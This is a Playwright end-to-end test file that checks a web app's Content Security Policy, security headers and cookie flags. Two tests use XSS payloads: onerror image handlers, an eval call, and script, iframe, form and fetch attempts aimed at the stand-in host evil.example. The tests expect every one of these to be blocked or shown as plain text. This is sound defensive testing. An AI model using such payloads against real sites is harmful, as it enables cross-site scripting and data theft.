import { chromium, type Page } from '@playwright/test';
import { openAsAdministrator } from '../support/e2e/administration.ts';
import { chromiumOptions } from '../support/e2e/chromium.ts';
import { expect, test } from '../support/e2e/test.ts';
import { unitList } from '../support/e2e/unit-list.ts';

/** Collects what the policy stops and what the page complains about, from now on. */
async function watch(page: Page): Promise<() => Promise<string[]>> {
  const said: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') said.push(message.text());
  });
  page.on('pageerror', (error) => said.push(error.message));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) =>
      console.error(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
  return async () => said;
}

test('no page of the app runs into its own policy', async ({ open }) => {
  // A fresh session: none of the acts below asks for the password again.
  const page = await openAsAdministrator(open, '/about');
  const complaints = await watch(page);
  for (const address of [
    '/',
    '/equipment',
    '/equipment/900002',
    '/equipment/new',
    '/equipment/import',
    '/equipment/import/1',
    '/admin/lookups/subclass',
    '/about',
  ]) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  await page.goto('/equipment');
  await unitList(page).row('CT').first().waitFor();
  for (const button of ['Columns', 'Views', 'Export']) {
    await page.getByRole('button', { name: button, exact: true }).click();
    await page.keyboard.press('Escape');
  }
  await page.getByRole('button', { name: 'Account of admin' }).click();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+k');
  await page.keyboard.type('ct');
  await expect(page.getByRole('option').first()).toBeVisible();
  await page.goto('/account');
  await page.getByRole('button', { name: 'Change password' }).click();
  await page.getByLabel(/^New password( \*)?$/).fill('a word and another');
  await expect(page.getByText(/ to guess\./)).toBeVisible();
  await page.getByRole('button', { name: 'Set up a second factor' }).click();
  await expect(page.getByRole('img', { name: 'QR code for the authenticator app' }).locator('path')).toBeAttached();
  await page.keyboard.press('Control+Alt+l');
  await expect(page.getByRole('heading', { name: 'Locked' })).toBeVisible();
  const refusals = (await complaints()).filter((text) => !text.includes('423'));
  expect(refusals).toEqual([]);
});

test('what is injected into a page does not run', async ({ open }) => {
  const page = await open('admin');
  await expect(page.getByRole('heading', { level: 1, name: 'Home' })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const stopped: string[] = [];
    Object.assign(window, { ran: 0, stopped });
    document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
    const script = document.createElement('script');
    const image = document.createElement('img');
    const form = document.createElement('form');
    const frame = document.createElement('iframe');
    const attempts = [
      () => Object.assign(script, { textContent: 'window.ran += 1' }),
      () => document.head.append(script),
      () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
      () => image.setAttribute('onerror', 'window.ran += 1'),
      () => Object.assign(image, { src: 'https://evil.example/pixel.png' }),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran += 1">'),
      () => Reflect.apply(Reflect.get(window, 'eval'), window, ['window.ran += 1']),
      () => document.body.append(Object.assign(frame, { src: 'https://evil.example/' })),
      () => {
        document.body.append(Object.assign(form, { action: 'https://evil.example/', method: 'post' }));
        form.requestSubmit();
      },
    ];
    // The debugger may use eval for as long as its own call lasts; a later task has the page's rights only.
    await new Promise((resume) => setTimeout(resume, 0));
    for (const attempt of attempts) {
      try {
        attempt();
      } catch (cause) {
        stopped.push(String(cause));
      }
    }
    document.body.append(image);
    const remote = await fetch('https://evil.example/').then(
      () => 'answered',
      () => 'refused',
    );
    await new Promise((resume) => requestAnimationFrame(() => requestAnimationFrame(resume)));
    return { remote };
  });
  expect(outcome.remote).toBe('refused');
  const stopped = () => page.evaluate(() => String(Reflect.get(window, 'stopped')));
  for (const directive of ['img-src', 'connect-src', 'form-action', 'frame-src', /TrustedScript/, /EvalError/])
    await expect.poll(stopped).toMatch(directive);
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBe(0);
});

test('text that looks like markup is shown as text', async ({ open, ask }) => {
  const text = '<img src=x onerror="window.ran = 1">';
  await ask('physicist', 'equipment.update', { id: 900002, version: 1, serialNumber: text, notes: text });
  const page = await open('viewer', '/equipment/900002');
  await expect(page.getByRole('region', { name: 'Notes' }).getByText(text)).toBeVisible();
  await page.goto('/equipment?q=900002');
  await expect(unitList(page).row(text)).toBeVisible();
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
});

test('a browser that was not told of the authority does not open the page', async ({ host }) => {
  const browser = await chromium.launch(chromiumOptions());
  try {
    const page = await browser.newPage();
    await expect(page.goto(host.url)).rejects.toThrow(/ERR_CERT_AUTHORITY_INVALID/);
  } finally {
    await browser.close();
  }
});

test('the answers forbid framing, sniffing and storing', async ({ open }) => {
  const page = await open('viewer');
  const headers = (await page.request.get('/', { ignoreHTTPSErrors: true })).headers();
  expect(headers).toMatchObject({
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'cache-control': 'no-store',
  });
  expect(headers['content-security-policy']).toContain("default-src 'none'");
  const cookies = await page.context().cookies();
  expect(cookies.find(({ name }) => name === '__Host-session')).toMatchObject({ httpOnly: true, secure: true });
  expect(await page.evaluate(() => ({ ...localStorage, ...sessionStorage }))).toEqual({});
});
